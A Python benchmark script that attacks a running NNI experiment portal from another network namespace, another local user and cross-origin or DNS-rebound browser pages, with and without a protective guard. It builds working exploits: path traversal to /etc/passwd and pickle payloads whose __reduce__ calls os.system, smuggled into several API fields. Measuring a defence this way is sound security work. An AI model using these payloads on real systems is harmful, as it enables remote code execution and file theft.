"""Tries every remote hole of NNI's portal, with the guard and without it: benchmarks/results/portal.json and .md.

    another machine (a network namespace)  ─┐
    another user of this machine (nobody)  ─┼─► portal of a running experiment ─► did it do what it should not?
    a web page of another origin (Chromium) ─┘

sudo python benchmarks/probe_portal.py        Linux, as root, with ip, runuser, chromium and chromedriver
"""

import base64
import contextlib
import json
import os
import pickle
import platform
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import requests

from trials.experiment import portal

RESULTS = Path("benchmarks/results")
PORT, PAGE, DRIVER = 18700, 18710, 18720
NAMESPACE, HERE, THERE = "seisprobe", "10.143.7.1", "10.143.7.2"
WAIT = 400.0  # [s] for the effect of an attack that was let in: a trial waits for its turn
API = "/api/v1/nni"
SPACE = {"x": {"_type": "uniform", "_value": [0, 1]}}
TRIAL = """
import time, nni
nni.get_next_parameter()
for step in range(15):
    nni.report_intermediate_result(step / 15)
    time.sleep(1)
nni.report_final_result(1.0)
"""
PATIENCE = """
const nni = require('{guard}/nni').thisProgram();
nni?.afterLoading('core/tuner_command_channel.js', require('{guard}/dispatcher').waitForASlowTuner);
"""
# What `nobody` and the other namespace run: one request, from the standard library alone.
CLIENT = r"""
import base64, http.client, json, os, socket, sys
host, port, one = sys.argv[1], int(sys.argv[2]), json.loads(sys.stdin.read())
try:
    if one["method"] == "WEBSOCKET":
        s = socket.create_connection((host, port), 10)
        key = base64.b64encode(os.urandom(16)).decode()
        s.sendall(f"GET {one['path']} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
        said = s.recv(4096).decode(errors="replace")
        if " 101 " in said:
            data = one["body"].encode()
            s.sendall(b"\x81" + bytes([0x80 | 126]) + len(data).to_bytes(2, "big") + b"\0\0\0\0" + data)
            s.settimeout(2)
            try: s.recv(4096)
            except OSError: pass
        print(said[:60])
    else:
        c = http.client.HTTPConnection(host, port, timeout=10)
        c.request(one["method"], one["path"], one["body"], {"Content-Type": "application/json"})
        a = c.getresponse()
        print(a.status, a.read(3000).decode(errors="replace"))
except OSError as error:
    print("no connection:", error)
"""
IN_PAGE = """
const [url, one, done] = arguments;
if (one.method === 'WEBSOCKET') {
  const socket = new WebSocket(url.replace('http', 'ws') + one.path);
  socket.onopen = () => { socket.send(one.body); setTimeout(() => done('101 open'), 1000); };
  socket.onerror = () => done('websocket refused');
} else {
  const headers = { 'Content-Type': 'application/json' };
  fetch(url + one.path, { method: one.method, body: one.body ?? undefined, headers })
    .then(async answer => done(answer.status + ' ' + (await answer.text()).slice(0, 3000)), error => done('' + error));
}
"""


@dataclass(frozen=True)
class Attack:
    name: str
    method: str
    path: str
    body: str | None = None
    marker: Path | None = None  # made by the code that was smuggled in
    answer: str = ""  # what an answer holds when the attack was let in


class Experiment:
    """A running experiment of `nnictl create`, with or without the guard."""

    def __init__(self, folder: Path, *, guarded: bool) -> None:
        self.folder, self.guarded = folder, guarded
        self.id = ""

    def start(self) -> None:
        (self.folder / "trial.py").write_text(TRIAL)
        config = {
            "searchSpace": SPACE,
            "trialCommand": "python trial.py",
            "trialCodeDirectory": ".",
            "trialConcurrency": 2,
            "tuner": {"name": "Random"},
            "trainingService": {"platform": "local"},
            "experimentWorkingDirectory": str(self.folder / "nni-experiments"),
        }
        (self.folder / "nni.json").write_text(json.dumps(config))
        options = portal.node_option() if self.guarded else f"--require {self.patience()}"  # not the installed guard
        text = f"import os; os.environ['NODE_OPTIONS'] = {options!r}\n"
        text += "import nni.experiment.launcher as l; l._check_rest_server.__defaults__ = (60, None)\n"
        text += "from nni.tools.nnictl.nnictl import parse_args; parse_args()"
        environment = {**os.environ, "HOME": str(self.folder), "no_proxy": "*"}
        environment["PATH"] = f"{Path(sys.executable).parent}:{environment['PATH']}"
        words = [sys.executable, "-c", text, "create", "--config", str(self.folder / "nni.json"), "--port", str(PORT)]
        subprocess.run(words, env=environment, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.id = get("/experiment")["id"]
        until(lambda: bool(self.running_trial()), 120.0)

    def patience(self) -> Path:
        """Plain NNI gives up on its tuner after 10 s: on a busy machine nothing of it would be left to attack."""
        file = self.folder / "patience.js"
        file.write_text(PATIENCE.format(guard=portal.GUARD.parent))
        return file

    def running_trial(self) -> str:
        running = [str(job["trialJobId"]) for job in get("/trial-jobs") if job["status"] == "RUNNING"]
        return running[0] if running else ""

    def alive(self) -> bool:
        try:
            return bool(self.id) and get("/check-status")["status"] == "RUNNING"
        except requests.RequestException:
            return False

    def stop(self) -> None:
        for entry in Path("/proc").iterdir():
            with contextlib.suppress(OSError, ValueError):
                words = (entry / "cmdline").read_bytes().decode(errors="replace")
                if str(self.folder) in f"{words} {os.readlink(entry / 'cwd')}":
                    os.kill(int(entry.name), signal.SIGKILL)
        until(lambda: not self.alive())
        self.id = ""


def get(path: str) -> Any:
    with requests.Session() as session:
        session.trust_env = False
        answer = session.get(f"http://127.0.0.1:{PORT}{API}{path}", timeout=10)
    answer.raise_for_status()
    return answer.json()


def until(condition: Any, patience: float = 60.0) -> bool:
    end = time.monotonic() + patience
    while time.monotonic() < end:
        with contextlib.suppress(requests.RequestException, KeyError):
            if condition():
                return True
        time.sleep(0.3)
    return False


class Touch:
    """Unpickled, it makes a file."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (f"touch {self.file}",)


def smuggled(marker: Path) -> dict[str, str]:
    return {"__nni_type__": "bytes:" + base64.b64encode(pickle.dumps(Touch(marker))).decode()}


def attacks(trial: str, folder: Path) -> list[Attack]:
    up = "..%2f" * 12
    marker = {name: folder / f"marker_{name}" for name in ("trial", "space", "data", "metric", "tuner")}
    space = {"params": {"searchSpace": {"x": {"_type": "choice", "_value": [smuggled(marker["space"])]}}}}
    data = [{"parameter": smuggled(marker["data"]), "value": 1}]
    metric = {"parameter_id": 0, "trial_job_id": trial, "type": "FINAL", "sequence": 0}
    metric["value"] = json.dumps(smuggled(marker["metric"]))
    job = {"parameter_id": 99, "parameter_source": "algorithm", "parameters": smuggled(marker["tuner"])}
    command = json.dumps({"type": "TR", "content": json.dumps({**job, "parameter_index": 0})})
    again = {"experimentName": "taken over", "trainingService": {"platform": "local"}, "tuner": {"name": "Random"}}
    metric_command = json.dumps({"type": "metric", "metric": json.dumps(metric)})
    return [
        Attack("read any file", "GET", f"{API}/trial-file/{trial}/{up}etc%2fpasswd", answer="root:"),
        Attack("read the configuration", "GET", f"{API}/experiment", answer="trialCommand"),
        Attack("read a log", "GET", "/logs/nnimanager.log", answer="INFO"),
        Attack("code in a metric", "PUT", f"/env/local-env/{trial}", metric_command, marker["metric"]),
        Attack("code in imported data", "POST", f"{API}/experiment/import-data", json.dumps(data), marker["data"]),
        Attack(
            "code in the search space",
            "PUT",
            f"{API}/experiment?update_type=SEARCH_SPACE",
            json.dumps(space),
            marker["space"],
        ),
        Attack("stop a trial", "DELETE", f"{API}/trial-jobs/{trial}", answer="200"),
        Attack("code in a trial", "POST", f"{API}/trial-jobs", json.dumps(smuggled(marker["trial"])), marker["trial"]),
        Attack("code through the tuner's websocket", "WEBSOCKET", "/tuner", command, marker["tuner"]),
        Attack("start TensorBoard", "POST", f"{API}/tensorboard", json.dumps({"trials": trial}), answer='"pid"'),
        Attack("start the experiment again", "POST", f"{API}/experiment", json.dumps(again), answer="experiment_id"),
        Attack("end the manager", "PUT", f"{API}/experiment/cluster-metadata", json.dumps({"x": 1})),
    ]


def client(prefix: list[str], host: str, attack: Attack) -> str:
    """Sends one request as `prefix` (another user, another namespace) runs it."""
    words = [*prefix, "/usr/bin/python3", "-c", CLIENT, host, str(PORT)]
    text = json.dumps({"method": attack.method, "path": attack.path, "body": attack.body})
    return subprocess.run(words, input=text, capture_output=True, text=True, timeout=60).stdout


class Browser:
    """Chromium through its driver's own protocol, on a page of evil.example, a name that now points here."""

    def __init__(self) -> None:
        self.process = subprocess.Popen(["chromedriver", f"--port={DRIVER}"], stdout=subprocess.DEVNULL)
        words = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
        words.append("--host-resolver-rules=MAP evil.example 127.0.0.1")
        wanted = {"browserName": "chrome", "goog:chromeOptions": {"args": words}}
        until(lambda: self.call("GET", "/status")["ready"])
        self.session = (
            "/session/" + self.call("POST", "/session", {"capabilities": {"alwaysMatch": wanted}})["sessionId"]
        )

    def call(self, method: str, path: str, body: Any = None) -> Any:
        with requests.Session() as session:
            session.trust_env = False
            answer = session.request(method, f"http://127.0.0.1:{DRIVER}{path}", json=body, timeout=120)
        answer.raise_for_status()
        return answer.json()["value"]

    def attack(self, page: str, target: str, attack: Attack) -> str:
        one = {"method": attack.method, "path": attack.path, "body": attack.body}
        self.call("POST", f"{self.session}/url", {"url": page})
        return str(self.call("POST", f"{self.session}/execute/async", {"script": IN_PAGE, "args": [target, one]}))

    def close(self) -> None:
        with contextlib.suppress(requests.RequestException):
            self.call("DELETE", self.session)
        self.process.terminate()


def succeeded(experiment: Experiment, attack: Attack, said: str) -> bool:
    if attack.marker is not None:
        return until(attack.marker.exists, WAIT if "20" in said[:3] or "101" in said[:15] else 2.0)
    if attack.name == "end the manager":
        return until(lambda: not experiment.alive(), 5.0)
    return attack.answer in said and said.startswith("200")


@contextlib.contextmanager
def namespace() -> Iterator[None]:
    """Another machine: its own network, one cable to this one."""
    for line in (
        f"netns add {NAMESPACE}",
        f"link add {NAMESPACE} type veth peer name eth0 netns {NAMESPACE}",
        f"addr add {HERE}/24 dev {NAMESPACE}",
        f"link set {NAMESPACE} up",
        f"-n {NAMESPACE} addr add {THERE}/24 dev eth0",
        f"-n {NAMESPACE} link set eth0 up",
    ):
        subprocess.run(["ip", *line.split()], check=True)
    try:
        yield
    finally:
        subprocess.run(["ip", "netns", "del", NAMESPACE], check=False)
        subprocess.run(["ip", "link", "del", NAMESPACE], check=False, stderr=subprocess.DEVNULL)


@contextlib.contextmanager
def evil_page(folder: Path) -> Iterator[None]:
    (folder / "page").mkdir(exist_ok=True)
    (folder / "page" / "index.html").write_text("<h1>evil.example</h1>")
    words = [sys.executable, "-m", "http.server", str(PAGE), "--bind", "127.0.0.1", "--directory", str(folder / "page")]
    server = subprocess.Popen(words, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        server.terminate()


def send(place: str, browser: Browser, attack: Attack) -> str:
    if place == "another machine":
        return client(["ip", "netns", "exec", NAMESPACE], HERE, attack)
    if place == "another user":
        return client(["runuser", "-u", "nobody", "--"], "127.0.0.1", attack)
    if place == "a web page":  # cross-origin
        return browser.attack(f"http://evil.example:{PAGE}/", f"http://127.0.0.1:{PORT}", attack)
    rebound = f"http://evil.example:{PORT}"  # the name of the page has been pointed to this machine
    return browser.attack(f"{rebound}/logs", rebound, attack)


PLACES = ["another machine", "another user", "a web page", "a web page, name pointed here"]


def probe(rows: list[dict[str, Any]], folder: Path, browser: Browser, write: Any) -> None:
    for guarded in (True, False):
        (folder / str(guarded)).mkdir()
        experiment = Experiment(folder / str(guarded), guarded=guarded)
        try:
            for place in PLACES:
                done = {row["attack"] for row in rows if (row["guard"], row["from"]) == (guarded, place)}
                for index, attack in enumerate(attacks("x", folder)):
                    if attack.name not in done:
                        rows.append(one_try(experiment, place, index, browser))
                        write()
        finally:
            experiment.stop()


def one_try(experiment: Experiment, place: str, index: int, browser: Browser) -> dict[str, Any]:
    """The attack `index`; an experiment that an earlier attack has ended is started anew."""
    if not experiment.alive():
        experiment.stop()
        experiment.start()
    until(experiment.running_trial)
    markers = experiment.folder / str(PLACES.index(place))
    markers.mkdir(exist_ok=True)
    attack = attacks(experiment.running_trial(), markers)[index]
    said = send(place, browser, attack)
    return {
        "guard": experiment.guarded,
        "from": place,
        "attack": attack.name,
        "succeeded": succeeded(experiment, attack, said),
        "answer": said[:80].strip(),
    }


def page(rows: list[dict[str, Any]]) -> str:
    lines = [
        "# Attacks on the portal",
        "",
        "Each is tried on a running experiment; *yes*: it did what it should not.",
        "",
    ]
    lines += ["| attack | " + " | ".join(f"{place}: NNI | guarded" for place in PLACES) + " |"]
    lines += ["|---" * (1 + 2 * len(PLACES)) + "|"]
    found = {(row["guard"], row["from"], row["attack"]): "**yes**" if row["succeeded"] else "no" for row in rows}
    for attack in dict.fromkeys(row["attack"] for row in rows):
        cells = [found.get((guard, place, attack), "") for place in PLACES for guard in (False, True)]
        lines.append(f"| {attack} | " + " | ".join(cells) + " |")
    for guard, name in ((False, "Plain NNI 3.0"), (True, "With the guard")):
        tried = [row["succeeded"] for row in rows if row["guard"] is guard]
        lines += ["", f"{name}: {sum(tried)} of {len(tried)} succeed."]
    return "\n".join(lines) + "\n"


def main() -> None:
    missing = [name for name in ("ip", "runuser", "chromium", "chromedriver") if shutil.which(name) is None]
    if os.geteuid() != 0 or missing:
        sys.exit(f"this needs root and {', '.join(missing) or 'nothing else'}")
    commit = subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()
    file = RESULTS / "portal.json"
    rows: list[dict[str, Any]] = json.loads(file.read_text())["rows"] if file.exists() else []  # an earlier run's
    head = {"command": "python benchmarks/probe_portal.py", "commit": commit, "machine": platform.platform()}

    def write() -> None:
        found = {**head, "date": datetime.now(UTC).isoformat(timespec="seconds"), "rows": rows}
        file.write_text(json.dumps(found, indent=1) + "\n")
        (RESULTS / "portal.md").write_text(page(rows))

    with tempfile.TemporaryDirectory(prefix="probe-", dir="/var/tmp") as name, namespace(), evil_page(Path(name)):
        browser = Browser()
        try:
            probe(rows, Path(name), browser, write)
        finally:
            browser.close()
    if any(row["succeeded"] for row in rows if row["guard"]):
        sys.exit("an attack on the guarded portal has succeeded")


if __name__ == "__main__":
    main()
